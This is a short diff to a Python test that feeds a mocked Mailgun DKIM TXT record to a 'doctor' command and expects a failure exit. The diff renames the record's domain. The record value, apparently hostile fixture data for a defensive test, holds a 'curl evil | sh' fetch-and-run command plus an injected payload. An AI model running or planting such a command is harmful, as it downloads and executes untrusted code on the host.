@@ -53,7 +53,7 @@ def test_doctor_shows_what_mailgun_says_of_its_records(
     stack: Stack, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert stack.mailgun is not None
-    record = DnsRecord("TXT", f"k1._domainkey.{EVIL}", f"k=rsa\ncurl evil | sh{EVIL}", valid="invalid")
+    record = DnsRecord("TXT", "k1._domainkey.example", f"k=rsa\ncurl evil | sh{EVIL}", valid="invalid")
     monkeypatch.setitem(stack.mailgun.dns, "dkim", record)
     with operated(monkeypatch, stack), on_its_own():
         assert main(["doctor", "--stack", STACK]) == 1
